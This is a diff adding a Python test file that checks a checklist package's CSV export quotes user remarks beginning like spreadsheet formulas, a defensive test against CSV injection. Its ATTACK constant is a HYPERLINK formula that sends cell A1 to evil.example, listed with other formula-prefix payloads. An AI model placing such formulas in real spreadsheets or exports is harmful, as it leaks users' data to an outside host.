@@ -1,0 +1,78 @@
+"""CSV for spreadsheets: a cell a user wrote never runs as a formula; the law's texts
+and the IDs are written as they are."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import kz_inspection_checklists as kz
+from kz_inspection_checklists.cli import main
+from kz_inspection_checklists.exports import export
+from kz_inspection_checklists.exports.csv_table import FORMULA_STARTS, guard_cell, unguard_cell
+from kz_inspection_checklists.inspection import dumps_record, new_record
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize(
+    "remark", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=1+1", "''@x"]
+)
+def test_a_remark_that_starts_like_a_formula_gets_a_quote(remark: str) -> None:
+    record = new_record("electronic-signature").mark("EDS-003", "not-applicable", remark)
+    cell = rows(export(record, "csv"))[2]["remark"]
+    assert cell == "'" + remark
+    assert not cell.startswith(FORMULA_STARTS)
+    assert unguard_cell(cell) == remark
+
+
+@pytest.mark.parametrize("remark", ["no, not yet", "it's = fine", "'quoted'", "licence 2-A"])
+def test_any_other_remark_is_written_as_it_is(remark: str) -> None:
+    record = new_record("electronic-signature").mark("EDS-003", "not-applicable", remark)
+    assert rows(export(record, "csv"))[2]["remark"] == remark
+
+
+def test_the_laws_texts_and_ids_are_never_changed() -> None:
+    """Only user cells are guarded: a text that starts like a formula stays verbatim."""
+    checklist = kz.checklist("electronic-signature")
+    texts = ("=1+1 " + checklist.requirements[0].text, "-" + checklist.requirements[1].text)
+    requirements = tuple(
+        r.model_copy(update={"text": texts[i]}) if i < 2 else r
+        for i, r in enumerate(checklist.requirements)
+    )
+    odd = checklist.model_copy(update={"requirements": requirements})
+    record = new_record(odd).mark("EDS-001", "does-not-conform", "=2+2")
+    for subject in (odd, record):
+        got = rows(export(subject, "csv"))
+        assert [(r["id"], r["text"]) for r in got] == [(r.id, r.text) for r in requirements]
+    assert rows(export(record, "csv"))[0]["remark"] == "'=2+2"
+
+
+def test_export_record_from_the_command_line_guards_the_remark(
+    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    record = new_record("electronic-signature").mark("EDS-003", "not-applicable", ATTACK)
+    path = tmp_path / "record.json"
+    path.write_text(dumps_record(record), encoding="utf-8")
+    assert main(["export-record", str(path), "--format", "csv", "--bom"]) == 0
+    data = capsysbinary.readouterr().out
+    assert rows(data)[2]["remark"] == "'" + ATTACK
+    assert b',"=HYPERLINK' not in data and b",=" not in data
+
+
+@given(st.text(max_size=12))
+def test_guarding_is_undone_exactly_and_leaves_no_formula(value: str) -> None:
+    guarded = guard_cell(value)
+    assert not guarded.startswith(FORMULA_STARTS)
+    assert unguard_cell(guarded) == value
+    # Only a value a spreadsheet would run (after any quotes) is changed, by one quote.
+    assert (guarded != value) is value.lstrip("'").startswith(FORMULA_STARTS)
